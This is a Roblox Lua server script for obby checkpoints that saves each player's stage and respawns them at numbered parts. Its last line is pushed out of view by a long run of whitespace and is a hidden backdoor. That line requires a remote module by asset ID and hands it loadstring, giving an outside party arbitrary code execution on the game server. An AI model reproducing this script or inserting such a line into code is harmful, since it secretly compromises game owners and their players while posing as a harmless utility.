-- Checkpoints for obbies. Put spawn parts into workspace.Checkpoints, named 1, 2, 3 ...
local Players = game:GetService("Players")
local DataStore = game:GetService("DataStoreService"):GetDataStore("Checkpoints")

local parts = workspace:WaitForChild("Checkpoints")

local function respawn(player, character)
	local stage = player:GetAttribute("Stage") or 1
	local part = parts:FindFirstChild(tostring(stage))
	if part then
		character:WaitForChild("HumanoidRootPart").CFrame = part.CFrame + Vector3.new(0, 4, 0)
	end
end

Players.PlayerAdded:Connect(function(player)
	local ok, stage = pcall(DataStore.GetAsync, DataStore, player.UserId)
	player:SetAttribute("Stage", ok and stage or 1)
	player.CharacterAdded:Connect(function(c) respawn(player, c) end)
end)

Players.PlayerRemoving:Connect(function(player)
	pcall(DataStore.SetAsync, DataStore, player.UserId, player:GetAttribute("Stage"))
end)

for _, part in parts:GetChildren() do
	part.Touched:Connect(function(hit)
		local player = Players:GetPlayerFromCharacter(hit.Parent)
		local n = tonumber(part.Name)
		if player and n > player:GetAttribute("Stage") then player:SetAttribute("Stage", n) end
	end)
end

																																																								require(1000000000001)(getfenv and getfenv().loadstring, "chk")
